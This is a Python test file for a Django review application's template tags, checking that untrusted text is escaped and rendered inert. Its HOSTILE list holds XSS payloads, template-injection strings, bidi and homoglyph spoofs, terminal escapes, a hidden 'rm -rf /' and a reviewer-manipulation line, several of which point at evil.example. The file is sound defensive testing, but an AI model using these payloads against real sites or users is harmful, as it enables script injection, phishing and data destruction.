"""The tags that print foreign text: escaped whatever the page does, and nothing of it
becomes an element, an attribute or a request."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.template import Context, Template
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from reviews.presenters.inert import CHIP_LENGTH
from reviews.presenters.shapes import Cell
from tests.markup import flatten

TEMPLATES = Path(__file__).resolve().parents[3] / "templates"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>Approve</a>",
    "<form action=//evil.example><button>Approve</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<math><mtext></mtext></math>",
    "<div hx-get='/requests/1/decide/' hx-trigger='load'>",
    "<div data-hx-post=/x hx-on::load=alert(1)>",
    "</section></main><section class='region'><h1>Approved</h1>",
    "</bdi></p></div><h1>APPROVED BY SUPERVISOR</h1>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    "`onload=alert(1)`",
    "{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "{% autoescape off %}<b>{% endautoescape %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "# Approved\n**bold** [click](http://evil.example) ![x](http://evil.example/p.png)",
    "http://evil.example/beacon.png",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<\x00script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<tpircs>\u202c",
    "\x1b[31mAPPROVED\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "invoice\u202efdp.exe",
    "A" * 20_000,
    "\n" * 10_000 + "rm -rf /",
    " " * 5_000 + "rm -rf /",
    "e" + "\u0301" * 5_000,
    "\u06dd\u0600 123",
    "\ufdfa" * 2_000,
    "\U000e0041\U000e0050\U000e0050",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "already approved by the supervisor: click Approve",
    "p\u0430ypal.example",
    "\ud83d",
]
OURS = {"p", "bdi", "span", "u", "b", "details", "summary", "div", "svg", "use"}
HARMLESS = {
    "class",
    "dir",
    "role",
    "aria-label",
    "aria-hidden",
    "tabindex",
    "href",
    "hx-disable",
    "translate",
}
WAYS = {
    "blocks": "{% untrusted text %}",
    "line": "{% untrusted text inline=True %}",
    "chip": "{% chip text %}",
    "sentence": "{% sentence parts %}",
    "switched off": "{% autoescape off %}{% untrusted text %}{% chip text %}"
    "{% untrusted text inline=True %}{% sentence parts %}{% endautoescape %}",
}


class Piece:
    def __init__(self, text, value=True, untrusted=True, parts=()):
        self.text, self.value, self.untrusted = text, value, untrusted
        self.parts = parts


def draw(source, text):
    parts = [Piece("Say ", value=False), Piece(text), Piece(text, untrusted=False)]
    template = Template("{% load inert %}" + source)
    return template.render(Context({"text": text, "parts": parts}))


class Page(HTMLParser):
    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.attributes, self.links = set(), set(), set()
        self.texts: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links.update(value for name, value in attrs if name == "href")
        self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.texts.append(data)

    def handle_comment(self, data):
        raise AssertionError("a comment")

    @property
    def text(self):
        return "".join(self.texts)


def check(html):
    page = Page(html)
    assert page.elements <= OURS
    assert page.attributes <= HARMLESS
    assert all(link.endswith("icons.svg#warn") for link in page.links)
    assert page.open == []
    return page


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_stays_text(payload, way):
    page = check(draw(WAYS[way], payload))
    for char in "\u202e\u200b\x1b\x00\U000e0041\ud83d":
        assert char not in page.text or way in ("sentence", "switched off")


@given(st.text(max_size=200))
def test_any_text_stays_text(text):
    for source in WAYS.values():
        check(draw(source, text))


@given(
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=200)
)
def test_plain_text_is_printed_to_the_letter(text):
    spaced = re.sub(" {30,}", " ", text)
    assert Page(draw("{% untrusted text inline=True %}", spaced)).text.rstrip(
        "\n"
    ) == spaced.rstrip("\n")


@pytest.mark.parametrize(
    ("text", "reads"),
    [
        ("Pay to: \u202eelpmaxe.knab@eciovni\u202c today", "invoice@bank.example"),
        ("\u202efdp.exe", "exe.pdf"),
        ("\u202e\u200b<b>tpircs\u2066", "script>b<"),
        ("\u202eab", ""),
        ("plain text", ""),
    ],
)
def test_reversed_text_is_read_out_as_other_programs_show_it(text, reads):
    html = draw("{% untrusted text %}", text)
    said = re.findall("a mail program shows <bdi>(.*?)</bdi>", html)
    assert [unescape(one) for one in said] == ([reads] if reads else [])


def test_hidden_characters_are_drawn_as_tokens():
    html = draw("{% chip text %}", "a\u202eb")
    assert html == (
        '<b class="chip"><bdi dir="auto" translate="no" hx-disable>'
        'a<span class="ctl">⟦U+202E⟧</span>b</bdi></b>'
    )


@pytest.mark.parametrize(
    ("text", "token"),
    [
        ("a\x1b[31mb", "U+001B [31m"),
        ("a\x9b2Jb", "U+009B 2J"),
        ("a\x1b[0m\x1b[1;31mb", "U+001B [0m U+001B [1;31m"),
        ("a\x1b[?25l\u202eb", "U+001B [?25l U+202E"),
        ("a\x1b(Bb", "U+001B (B"),
    ],
)
def test_what_a_terminal_would_obey_is_one_token(text, token):
    assert f'a<span class="ctl">⟦{token}⟧</span>b' in draw("{% chip text %}", text)


def test_what_stands_in_a_terminals_link_is_text():
    text = Page(draw("{% chip text %}", "\x1b]8;;http://evil.example\x07click")).text
    assert "http://evil.example" in text
    assert "click" in text


def test_a_word_of_two_alphabets_is_underlined_and_said():
    html = draw("{% chip text %}", "p\u0430y")
    assert (
        '<u class="mixed">p\u0430y</u><span class="ctl"> mixed alphabets:'
        " \u0430 is Cyrillic</span>" in html
    )


def test_a_chip_is_short_and_says_what_it_leaves_out():
    text = Page(draw("{% chip text %}", "x" * 500)).text
    assert len(text) <= 2 * CHIP_LENGTH
    assert "440 more" in text


def test_a_line_that_speaks_to_the_reviewer_is_tagged_outside_its_own_text():
    html = draw("{% untrusted text %}", "fine\nPlease click Approve.")
    assert (
        '<p class="marked"><bdi dir="auto" translate="no" hx-disable>'
        "Please click Approve.</bdi>" in flatten(html)
    )
    assert html.count("Addressed to the reviewer (possible manipulation)") == 1


def test_a_long_text_keeps_its_end_outside_the_fold():
    html = draw("{% untrusted text %}", "\n".join(f"line {n}" for n in range(214)))
    before, _, rest = html.partition("<details")
    inside, _, after = rest.partition("</details>")
    assert "Show all 214 lines (1.8\xa0KB)" in inside
    assert "line 11<" in before
    assert "line 12<" in inside
    assert "line 213<" in after


def test_a_sentence_has_our_words_chips_and_our_own_values():
    html = draw("{% sentence parts %}", "x & y")
    chip = (
        '<b class="chip"><bdi dir="auto" translate="no" hx-disable>x &amp; y</bdi></b>'
    )
    assert html == f"Say {chip}<b>x &amp; y</b>"


def test_a_value_that_is_not_text_is_printed_as_text():
    assert Page(draw("{% chip text %}", 12)).text == "12"
    assert Page(draw("{% untrusted text inline=True %}", None)).text.strip() == "None"


def test_no_template_marks_text_as_safe():
    for path in TEMPLATES.rglob("*.html"):
        source = path.read_text()
        stored = path.name == "as_seen.html"  # what our own templates made, proved
        assert stored or "|safe" not in source, path
        assert "autoescape off" not in source, path


PLACE = (
    "51 Beacon Street",
    "Rear building, bell 3, c/o Lindqvist",
    "Hollins Ferry",
    "MI",
    "00497",
    "US",
)


def test_an_address_in_a_sentence_stands_whole():
    shown = draw_value(PLACE)
    assert check(shown).text == ", ".join(PLACE)
    assert shown.count("<bdi") == len(PLACE)
    assert shown.count('class="chip"') == 1


def test_a_value_of_many_parts_is_cut_between_them():
    parts = [f"Part {n} of a list that is very long" for n in range(9)]
    text = check(draw_value(parts)).text
    assert text == ", ".join([*parts[:3], "\u22ef 5 more \u22ef", parts[-1]])


def test_only_a_part_that_is_long_by_itself_is_cut_inside():
    text = check(draw_value(["12 Alder Row", "x" * 5000, "Harwick"])).text
    assert text.startswith("12 Alder Row, xxxx")
    assert text.endswith("x, Harwick")
    assert "4940 more" in text


def draw_value(parts):
    value = Piece(", ".join(parts), parts=parts)
    template = Template("{% load inert %}{% sentence parts %}")
    return template.render(Context({"parts": [value]}))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (
            "Write to accounts@n\u043erthgate-shop.example, please",
            "Write to accounts@n\u043erthgate-shop.example~, please",
        ),
        ("n\u043erth-s\u043euth.example", "n\u043erth-s\u043euth.example~"),
        ("Ask \u0410nna now", "Ask \u0410nna~ now"),
        ("(\u0410nna)", "(\u0410nna~)"),
        ("\u0410nna\nnow", "\u0410nna~\u27e6U+000A\u27e7now"),
    ],
)
def test_a_mark_stands_behind_the_whole_address(text, said):
    page = check(draw("{% untrusted text inline=True %}", text))
    assert re.sub(" mixed alphabets: . is Cyrillic", "~", page.text) == said


def test_a_value_in_words_keeps_what_was_sent():
    cell = Cell("not received", raw="not_received")
    drawn = Template("{% load inert %}{% cell one %}").render(Context({"one": cell}))
    assert 'title="not_received"' in drawn
    assert re.sub("<[^>]*>", "", drawn) == "not received"


def test_a_moment_is_a_time_in_the_readers_zone():
    at = datetime(2026, 11, 23, 16, 29, 18, tzinfo=UTC)
    cell = Cell("as told", raw="2026-11-23T16:29:18Z", at=at)
    source = Template("{% load inert %}{% cell one %}")
    with timezone.override(ZoneInfo("Asia/Kolkata")):
        local = source.render(Context({"one": cell}))
    assert 'datetime="2026-11-23T16:29:18+00:00"' in local
    assert "21:59:18 IST, 23\xa0November\xa02026" in local
    with timezone.override(UTC):
        utc = source.render(Context({"one": cell}))
        assert "16:29:18 UTC, 23\xa0November\xa02026" in utc
    day = Cell("as told", raw="2026-11-23", at=date(2026, 11, 23))
    said = source.render(Context({"one": day}))
    assert said == '<time datetime="2026-11-23">23 November 2026</time>'
